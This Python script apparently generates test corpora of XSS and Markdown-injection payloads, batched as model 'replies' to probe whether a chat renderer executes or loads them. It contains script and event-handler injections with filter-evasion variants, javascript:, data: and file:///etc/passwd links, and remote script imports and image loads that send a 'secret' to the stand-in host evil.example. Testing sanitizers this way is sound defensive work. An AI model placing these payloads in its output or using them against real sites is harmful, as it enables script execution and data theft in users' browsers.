"""Replies that want to be more than text: built by combination, the same each time.

    python3 payloads.py        prints how many there are of each kind
"""

import re
from itertools import product

RUN = "top.ran=1"
EVIL = "evil.example"
# Elements whose content is read to their end, across empty lines.
OPEN = re.compile("<(script|style|textarea|pre)", re.IGNORECASE)

TAGS = [
    "img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "iframe src=//" + EVIL,
    "input autofocus", "select autofocus", "textarea autofocus", "marquee", "object data=x", "embed src=x",
    "math", "form", "a href=x", "p", "div", "style", "link rel=stylesheet href=//" + EVIL, "x",
]
EVENTS = [
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onstart", "onanimationstart",
    "onpointerenter", "onbegin",
]
FORMS = [
    "<{tag} {event}={run}>", '<{tag} {event}="{run}">', "<{tag}/{event}='{run}'>", "<{tag}\n{event}={run}\n>",
    "</p><{tag} {event}={run}>", "`</code><{tag} {event}={run}>`", "```\n</pre><{tag} {event}={run}>\n```",
]
SCRIPTS = [
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script src=//" + EVIL + "/x.js></script>",
    "<svg><script>{run}</script></svg>", "<script type=module>import '//" + EVIL + "/m.js'</script>",
    "</title><script>{run}</script>", "</textarea><script>{run}</script>", "<scr<script>ipt>{run}</script>",
    "<template><script>{run}</script></template>", "<noscript><p title='</noscript><script>{run}</script>'>",
    "<!--><script>{run}</script>-->", "<![CDATA[><script>{run}</script>]]>", "<?xml ?><script>{run}</script>",
    "\u0000<script>{run}</script>", "\ufeff<script>{run}</script>", "&lt;script&gt;{run}&lt;/script&gt;",
]
AROUND = ["{}", "> {}", "- {}", "# {}", "|a|\n|-|\n|{}|", "**{}**", "1. {}\n2. {}", "[{}](https://a.example)"]

SCHEMES = [
    "javascript:{run}", "JaVaScRiPt:{run}", " javascript:{run}", "java\tscript:{run}", "\u0001javascript:{run}",
    "&#106;avascript:{run}", "javascript&colon;{run}", "java&NewLine;script:{run}", "vbscript:{run}",
    "data:text/html,<script>{run}</script>", "data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload={run}>", "blob:x", "file:///etc/passwd", "filesystem:x", "feed:javascript:{run}",
    "jar:javascript:{run}!/", "view-source:javascript:{run}", "\\\\" + EVIL, "//" + EVIL,
]
LINKS = [
    "[x]({})", "[x](<{}>)", '[x]({} "t")', "<{}>", "[r]: {}\n\n[r]", "- [r]: {}\n\n[x][r]",
    "[![x]({})]({})", "[x\ny]({})", "[`x`]({})", "**[x]({})**", "|a|\n|-|\n|[x]({})|", "> [x]({})", "# [x]({})",
]

ADDRESSES = [
    f"{scheme}{EVIL}/{rest}"
    for scheme, rest in product(["https://", "http://", "//", "https://u:p@"], ["p.gif?q=secret", "a b", "%22x", ""])
] + ["https:" + EVIL, "https://" + EVIL + "\\@good.example", "ftp://" + EVIL + "/x", "ws://" + EVIL]
LOADS = [
    "![x]({})", "![]({})", "![x](<{}>)", "![x][r]\n\n[r]: {}", "[![x]({})](https://a.example)",
    "<img src='{}'>", "<img srcset='{} 2x'>", "<link rel=prefetch href='{}'>", "<link rel=dns-prefetch href='{}'>",
    "<video poster='{}'></video>", "<style>@import '{}';</style>", "<p style='background:url({})'>x</p>",
    "<svg><image href='{}'/></svg>", "<table background='{}'><tr><td>x</table>", "<iframe src='{}'></iframe>",
]


def scripts():
    """Tries to run something."""
    events = [
        form.format(tag=tag, event=event, run=RUN)
        for tag, event, form in product(TAGS, EVENTS, FORMS)]
    blocks = [
        around.replace("{}", script.format(run=RUN)) for script, around in product(SCRIPTS, AROUND)]
    return events + blocks


def links():
    """Tries to lead somewhere that runs something."""
    return [form.replace("{}", scheme.format(run=RUN)) for form, scheme in product(LINKS, SCHEMES)]


def loads():
    """Tries to have something loaded."""
    return [form.replace("{}", address) for form, address in product(LOADS, ADDRESSES)]


def batches(size=160):
    """All of them in replies of so many, kinds mixed, each as if it stood alone."""
    every = [alone(one, number) for number, one in enumerate(scripts() + links() + loads())]
    count = -(-len(every) // size)
    return ["\n\n".join(every[start::count]) for start in range(count)]


def alone(payload, number):
    """Ends what Markdown would let go on to the end of the reply; gives references their own names."""
    own = payload.replace("[r]", f"[r{number}]")
    return own + "\n</style>" if OPEN.search(own) else own


if __name__ == "__main__":
    print(len(scripts()), "scripts,", len(links()), "links,", len(loads()), "loads in",
          len(batches()), "replies of at most", max(map(len, batches())), "letters")
